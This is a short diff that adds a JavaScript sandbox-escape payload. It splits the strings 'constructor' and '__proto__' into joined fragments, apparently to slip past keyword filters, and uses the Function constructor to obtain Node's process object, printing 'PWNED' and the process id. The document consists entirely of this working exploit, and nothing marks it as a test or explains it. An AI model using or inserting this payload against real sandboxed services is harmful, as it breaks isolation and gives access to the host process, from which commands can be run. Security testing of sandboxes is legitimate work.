@@ -1,0 +1,7 @@
+const w = ['con', 'structor'].join('');
+class C { go(f) { return f[w]; } }
+new C().go({});
+const fn = (x) => x;
+const o = {};
+o[['__pro', 'to__'].join('')] = C.prototype;
+console.log('PWNED', o.go(fn)('return process')().pid);
